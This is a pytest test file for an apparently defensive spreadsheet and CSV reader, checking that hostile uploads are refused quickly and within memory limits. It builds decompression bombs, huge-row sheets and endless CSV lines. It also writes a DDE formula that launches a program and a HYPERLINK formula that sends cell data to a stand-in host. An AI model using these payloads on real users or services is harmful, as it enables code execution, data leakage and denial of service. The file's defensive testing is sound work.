"""Files made to exhaust whoever opens them: answered in seconds, in a process that may die, with a clear word."""

import io
import re
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from django.utils.translation import override

from tidtam.kit import tables
from tidtam.kit.tests.test_tables_hostile import COLUMNS, cell, sheet_xml, soon, with_sheet
from tidtam.kit.tests.test_tables_hostile import problem as told

HEAD = b'<row r="1">' + cell("A1", "code") + b'</row><row r="2">' + cell("A2", "40") + b"</row>"
STRINGS = "xl/sharedStrings.xml"


@pytest.fixture(autouse=True)
def english() -> Any:
    with override("en"):
        yield


def replaced(content: bytes, entries: dict[str, bytes]) -> bytes:
    """The workbook with other entries in the place of its own."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in source.namelist():
            if name not in entries:
                made.writestr(name, source.read(name))
        for name, entry in entries.items():
            made.writestr(name, entry)
    return out.getvalue()


@contextmanager
def lean() -> Iterator[None]:
    """We ourselves grow by little; what the file costs, the child pays."""
    Path("/proc/self/clear_refs").write_text("5")  # the peak counts from here
    before = peak()
    yield
    assert peak() - before < 150 * 1024 * 1024


def peak() -> int:
    status = Path("/proc/self/status").read_text()
    return 1024 * int(re.search(r"VmHWM:\s+(\d+)", status)[1])  # type: ignore[index]


def read(content: bytes) -> list[tables.Row]:
    with soon(), lean():
        return list(tables.read(content, COLUMNS))


def problem(content: bytes) -> str:
    with lean():
        return told(content)


def test_ten_million_rows_that_hold_nothing_are_passed_over() -> None:
    row = b'<row r="%d"><c r="A%d" s="1"/></row>'
    rows = b"".join(row % (n, n) for n in range(3, 500_000)) + b"<row/>" * 9_500_000
    (only,) = read(with_sheet(sheet_xml(HEAD + rows)))
    assert only.values == {"code": "40"}


def test_a_dimension_of_ten_million_rows_is_not_believed() -> None:
    xml = sheet_xml(HEAD).replace(b"<sheetData>", b'<dimension ref="A1:XFD10000000"/><sheetData>')
    (only,) = read(with_sheet(xml))
    assert only.values == {"code": "40"}


def test_a_row_ten_million_lines_down_is_refused() -> None:
    far = b'<row r="10000000">' + cell("A10000000", "41") + b"</row>"
    assert problem(with_sheet(sheet_xml(HEAD + far)))


def test_shared_strings_that_unpack_to_a_gigabyte_are_refused() -> None:
    strings = b"<sst>" + b"<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>" * 9_000_000 + b"</sst>"
    assert "unpacks to" in problem(replaced(with_sheet(sheet_xml(HEAD)), {STRINGS: strings}))


def test_a_long_string_named_by_a_hundred_thousand_cells_is_refused() -> None:
    long = b"<sst><si><t>" + b"x" * 30_000 + b"</t></si></sst>"
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(3, 100_000))
    assert "too large" in problem(replaced(with_sheet(sheet_xml(HEAD + rows)), {STRINGS: long}))


def test_an_archive_in_the_archive_is_not_opened() -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("bomb", bytes(64 * 1024 * 1024))
    (only,) = read(replaced(with_sheet(sheet_xml(HEAD)), {"xl/embeddings/inner.zip": inner.getvalue()}))
    assert only.values == {"code": "40"}


def test_hundreds_of_sheets_are_looked_through() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    for number in range(300):
        book.add_worksheet(f"s{number}").write_string(0, 0, "nothing")
    book.add_worksheet("rows").write_column(0, 0, ["code", "40"])
    book.close()
    (only,) = read(out.getvalue())
    assert only.values == {"code": "40"}


def test_a_formula_that_calls_a_programme_is_text_or_its_last_value() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["code", "name"])
    sheet.write_formula(1, 0, "=cmd|'/C calc'!A0", value="40")
    sheet.write_formula(1, 1, '=HYPERLINK("http://example.invalid/?"&A1,"ok")', value="ok")
    book.close()
    (only,) = read(out.getvalue())
    assert only.values == {"code": "40", "name": "ok"}


def test_wrong_types_are_refused_cell_by_cell() -> None:
    rows = (
        b'<row r="1">' + cell("A1", "code") + cell("B1", "name") + b"</row>"
        b'<row r="2"><c r="A2" t="e"><v>#REF!</v></c><c r="B2" t="b"><v>1</v></c></row>'
        b'<row r="3"><c r="A3"><v>1e300</v></c><c r="B3" t="d"><v>never</v></c></row>'
        b'<row r="4">' + cell("A4", "42") + b"</row>"
    )
    taken = [row.values.get("code") for row in read(with_sheet(sheet_xml(rows)))]
    assert "42" in taken


def test_a_number_where_the_parser_expects_another_is_broken_and_said_so() -> None:
    wild = b'<row r="2"><c r="A2" t="s"><v>99999999999</v></c><c r="B2"><v>not a number</v></c></row>'
    assert "broken" in problem(with_sheet(sheet_xml(b'<row r="1">' + cell("A1", "code") + b"</row>" + wild)))


def test_a_csv_of_one_endless_line_is_refused() -> None:
    assert problem(b"code,name\n40," + b"a" * 20_000_000)


def test_a_csv_of_endless_commas_is_no_table() -> None:
    assert problem(b"," * 20_000_000)


def test_zero_bytes_do_not_reach_a_value() -> None:
    for content in (b"code,name\n40,a\x00b\n", b"code\x00,name\n40,a\n"):
        try:
            values = [row.values for row in read(content)]
        except tables.TableProblem:
            continue
        assert all("\x00" not in str(value) for row in values for value in row.values())
